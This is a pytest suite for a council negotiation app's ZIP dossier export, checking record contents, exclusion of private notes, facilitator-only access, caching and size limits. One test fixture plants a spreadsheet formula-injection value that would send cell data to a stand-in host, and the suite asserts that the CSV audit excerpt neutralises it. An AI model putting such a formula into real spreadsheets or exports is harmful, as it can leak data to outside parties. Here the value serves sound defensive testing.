"""The negotiation's dossier (issue 14, point 7): one ZIP with a PDF record per item, the minutes,
the executed agreements as stored, an audit excerpt and a 目録; never a member's own notes;
only the facilitator; kept by content, so asking again renders nothing."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import subprocess
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa

from negotiator.agreements.models import Agreement
from negotiator.audit import services as audit
from negotiator.audit.models import AuditEntry
from negotiator.auth.models import User
from negotiator.consortia.models import Member
from negotiator.db import db
from negotiator.dossier import renders as dossier_renders
from negotiator.meetings import pdf as minutes_pdf
from negotiator.negotiation import notes, services
from negotiator.negotiation.models import AgendaItem, Negotiation
from negotiator.renders.models import RenderJob
from tests.agreements.factories import make_draft
from tests.factories import login, record
from tests.meetings.factories import make_meeting
from tests.renders.helpers import queued, run

SECRET = "内部メモ:上限は年額50万円まで(秘)"
REVISED = "改訂後の提案文:端末は登録済みのものに限る。"
EXECUTED = b"%PDF-1.7\n% the executed original as stored, signatures and all\n%%EOF\n"
SCAN = b"\x89PNG\r\n\x1a\n the scanned paper original"


def _setup(app, world) -> dict:  # noqa: ANN001
    """The world's item revised, positions with a statement and conditions, a member's own
    note, a held meeting that took it up, an executed agreement, and an audit entry whose
    summary a spreadsheet would run."""
    with app.app_context():
        item = db.session.get(AgendaItem, world.item_id)
        author = db.session.scalar(sa.select(User).where(User.username == "facilitator"))
        services.add_revision(item, REVISED, "端末の範囲を明確化", author, base_revision=1)
        member = db.session.get(Member, world.member_ids[1])
        record(
            item, member, "object", reason="費用の根拠が示されていない", statement="再検討を求める"
        )
        notes.add_note(item, db.session.get(Member, world.member_ids[0]), SECRET, author)
        meeting = make_meeting(world.negotiation_id, [world.item_id], held=True)
        negotiation = db.session.get(Negotiation, world.negotiation_id)
        audit.record("negotiation.edit", negotiation, '=HYPERLINK("http://x.example/?"&A1)')
        db.session.commit()
        meeting_id = meeting.id
    agreement_id = make_draft(app, world)
    with app.app_context():
        agreement = db.session.get(Agreement, agreement_id)
        agreement.status, agreement.content_json, agreement.content_hash = (
            "executed",
            "{}",
            "0" * 64,
        )
        agreement.executed_pdf = EXECUTED
        agreement.executed_pdf_sha256 = hashlib.sha256(EXECUTED).hexdigest()
        agreement.executed_at = dt.datetime.now(dt.UTC)
        agreement.original_scan, agreement.original_scan_sha256 = (
            SCAN,
            hashlib.sha256(SCAN).hexdigest(),
        )
        db.session.commit()
    return {"meeting_id": meeting_id, "agreement_id": agreement_id}


def _build(client, world) -> RenderJob:  # noqa: ANN001
    response = client.post(f"/negotiations/{world.negotiation_id}/dossier")
    assert response.status_code == 302, response.status_code
    assert response.headers["Location"].startswith("/renders/"), response.headers["Location"]
    return int(response.headers["Location"].rsplit("/", 1)[1])


def _zip(client, job_id: int) -> zipfile.ZipFile:  # noqa: ANN001
    file = client.get(f"/renders/{job_id}/file")
    assert file.status_code == 200 and file.mimetype == "application/zip"
    assert "dossier-" in file.headers["Content-Disposition"]
    return zipfile.ZipFile(io.BytesIO(file.data))


def _text(pdf: bytes, tmp_path: Path) -> str:
    path = tmp_path / "record.pdf"
    path.write_bytes(pdf)
    return subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout


def test_the_dossier_holds_every_record_and_never_the_notes(app, world, tmp_path):
    made = _setup(app, world)
    client = app.test_client()
    login(client, "facilitator")
    archive = _zip(client, _build(client, world))
    names = archive.namelist()
    assert names[0] == "00_目録.txt" and names[1:] == sorted(names[1:])
    assert all(info.flag_bits & 0x800 for info in archive.infolist())  # UTF-8 names
    items = [n for n in names if n.startswith("01_協議事項/")]
    # The world's item, and the one the agreement's draft added.
    assert items == [
        "01_協議事項/第001号_アクセス権制御ポリシー.pdf",
        "01_協議事項/第002号_目的.pdf",
    ]
    text = _text(archive.read(items[0]), tmp_path)
    squeezed = "".join(text.split())
    for expected in (
        "提案文",
        REVISED,
        "端末の範囲を明確化",
        "端末を限定する",
        "費用の根拠が示されていない",
    ):
        assert "".join(expected.split()) in squeezed, expected
    for town in ("須崎市", "中土佐町", "四万十町"):
        assert town in text
    assert "第1版に対して" in squeezed and "第2版" in text and "反対" in text
    # The minutes of the meeting that took the item up, and the executed agreement's own bytes.
    assert any(n.startswith("02_議事録/") and n.endswith("_議事録.pdf") for n in names)
    agreements = [n for n in names if n.startswith("03_協定書/")]
    assert [archive.read(n) for n in agreements] == [EXECUTED, SCAN]
    assert agreements[1].endswith("_原本スキャン.png")
    # The audit excerpt: UTF-8 with BOM, neutralised, about this negotiation, no notes.
    raw = archive.read("04_監査記録/監査記録.csv")
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:4] == ["番号", "日時(日本時間)", "操作者", "操作"]
    summaries = [r[6] for r in rows[1:]]
    assert '\'=HYPERLINK("http://x.example/?"&A1)' in summaries
    assert not any(s.startswith(("=", "+", "-", "@")) for r in rows[1:] for s in r)
    assert {"item.propose", "item.revise", "position.record"} <= {r[3] for r in rows[1:]}
    assert not {"note.add", "dossier.request"} & {r[3] for r in rows[1:]}
    assert "membernote" not in {r[4] for r in rows[1:]}
    # The member's own note: in no file, not even as the fact that one was written.
    readme = archive.read("00_目録.txt").decode("utf-8-sig")
    for name in names:
        data = archive.read(name)
        shown = _text(data, tmp_path) if name.endswith(".pdf") and data != EXECUTED else ""
        if data == SCAN:
            continue
        for secret in (SECRET, "上限は年額50万円"):
            assert secret.encode() not in data and secret not in "".join(shown.split()), name
    assert "内部メモ" not in raw.decode("utf-8-sig")
    # The 目録 lists every file with its hash, the negotiation, council, maker and date.
    for name in names[1:]:
        assert f"{name}  {archive.getinfo(name).file_size:,} バイト" in readme
        assert hashlib.sha256(archive.read(name)).hexdigest() in readme
    assert (
        "協議会: 高知県中西部電算協議会" in readme and "協議案件: グループウェア共同利用" in readme
    )
    assert "作成者: " in readme and "(facilitator)" in readme and "作成日時: 令和" in readme
    assert "内部メモ" in readme  # says what is not in it
    assert made["agreement_id"] and made["meeting_id"]


def test_asking_again_with_nothing_changed_renders_nothing(app, world, monkeypatch):
    with app.app_context():
        make_meeting(world.negotiation_id, [world.item_id], held=True)
        db.session.commit()
    client = app.test_client()
    login(client, "facilitator")
    first = _build(client, world)
    first_zip = client.get(f"/renders/{first}/file").data
    rendered = []
    real = dossier_renders.render_pdf
    monkeypatch.setattr(
        dossier_renders, "render_pdf", lambda *a, **k: rendered.append(1) or real(*a, **k)
    )
    assert _build(client, world) == first
    assert rendered == [] and client.get(f"/renders/{first}/file").data == first_zip
    with app.app_context():
        kinds = db.session.scalars(sa.select(RenderJob.kind)).all()
        assert kinds.count(dossier_renders.KIND) == 1
        asked = db.session.scalar(
            sa.select(sa.func.count()).where(AuditEntry.action == "dossier.request")
        )
        assert asked == 1  # a new dossier is recorded once, asking again is not
    # Something changed: a new dossier.
    with app.app_context():
        item = db.session.get(AgendaItem, world.item_id)
        record(item, db.session.get(Member, world.member_ids[2]), "agree")
        db.session.commit()
    second = _build(client, world)
    assert second != first and len(rendered) == 1


def test_the_minutes_kept_by_the_meeting_page_are_not_rendered_again(app, world, monkeypatch):
    with app.app_context():
        m = make_meeting(world.negotiation_id, [world.item_id], held=True).id
        db.session.commit()
    client = app.test_client()
    login(client, "facilitator")
    kept = client.get(f"/meetings/{m}/minutes.pdf").data
    calls = []
    monkeypatch.setattr(minutes_pdf, "pdf_from_html", lambda html: calls.append(html) or b"")
    archive = _zip(client, _build(client, world))
    minutes = [n for n in archive.namelist() if n.startswith("02_議事録/")]
    assert calls == [] and [archive.read(n) for n in minutes] == [kept]


def test_the_status_page_shows_the_steps_then_the_zip(app, world):
    queued(app)
    client = app.test_client()
    login(client, "facilitator")
    job_id = _build(client, world)
    page = client.get(f"/renders/{job_id}").get_data(as_text=True)
    assert "<h1>記録一式の作成</h1>" in page and 'class="small render-steps"' in page
    for step in dossier_renders.STEPS:
        assert step in page
    assert f"/renders/{job_id}/file" not in page
    run(app, job_id)
    page = client.get(f"/renders/{job_id}").get_data(as_text=True)
    assert f"/renders/{job_id}/file" in page and "render-steps" not in page
    assert _zip(client, job_id).namelist()[0] == "00_目録.txt"


@pytest.mark.parametrize(
    ("user", "status"),
    [
        ("observer", 403),
        ("liaison", 403),
        ("signatory", 403),
        ("outsider", 404),
        ("admin", 404),
    ],
)
def test_only_the_facilitator_builds_and_downloads_it(app, world, user, status):
    client = app.test_client()
    login(client, "facilitator")
    job_id = _build(client, world)
    other = app.test_client()
    login(other, user)
    assert other.post(f"/negotiations/{world.negotiation_id}/dossier").status_code == status
    assert other.get(f"/renders/{job_id}").status_code == status
    assert other.get(f"/renders/{job_id}/file").status_code == status
    page = other.get(f"/negotiations/{world.negotiation_id}").get_data(as_text=True)
    assert "/dossier" not in page
    assert "/dossier" in client.get(f"/negotiations/{world.negotiation_id}").get_data(as_text=True)


def test_a_dossier_over_the_limit_is_refused_with_its_size(app, world):
    client = app.test_client()
    login(client, "facilitator")
    app.config["DOSSIER_MAX_BYTES"] = 100  # the audit excerpt alone is larger
    refused = client.post(f"/negotiations/{world.negotiation_id}/dossier", follow_redirects=True)
    assert "記録一式が大きすぎます" in refused.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(RenderJob)) == 0
    # Known size within the limit, the rendered PDFs over it: the job fails with the reason.
    app.config["DOSSIER_MAX_BYTES"] = 20_000
    job_id = _build(client, world)
    page = client.get(f"/renders/{job_id}").get_data(as_text=True)
    assert "作成できませんでした" in page and "記録一式が大きすぎます" in page
